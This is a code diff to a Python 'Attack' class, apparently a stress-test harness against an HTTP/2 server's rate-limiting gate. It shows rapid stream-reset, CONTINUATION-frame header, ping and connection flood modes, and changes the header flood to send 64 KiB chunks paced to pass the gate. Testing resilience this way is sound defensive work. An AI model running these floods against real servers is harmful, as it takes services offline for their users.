@@ -158,8 +158,13 @@ class Attack:
                 sid = conn.get_next_available_stream_id()
                 conn.send_headers(sid, headers(PLAY))
                 conn.reset_stream(sid)
-        elif ATTACK == "metadata":  # 4 MiB header blocks, in CONTINUATION frames
-            link.sock.sendall(big_headers(link))
+        elif ATTACK == "metadata":  # 4 MiB header blocks, in CONTINUATION frames, 64 KiB
+            block = big_headers(link)  # at a time (each a burst: the seat's gate passes
+            for i in range(0, len(block), 65536):  # 64 KiB a second)
+                link.sock.sendall(block[i:i + 65536])
+                self.count()
+            link.drain()
+            return
         elif ATTACK == "pings":
             for i in range(100):
                 conn.ping(i.to_bytes(8, "big"))
@@ -171,11 +176,14 @@ class Attack:
                 Link(0.001).close()
             except OSError:  # not taken (the seat's gate holds as many as it passes on)
                 self.refused += 1
+        self.count()
+        link.flush()
+        link.drain()
+
+    def count(self):
         self.sent += 1
         if self.sent == 1:
             print(f"ATTACK {ATTACK} bursts=1", flush=True)
-        link.flush()
-        link.drain()
 
     def run(self, mine, ended):
         start = time.monotonic()
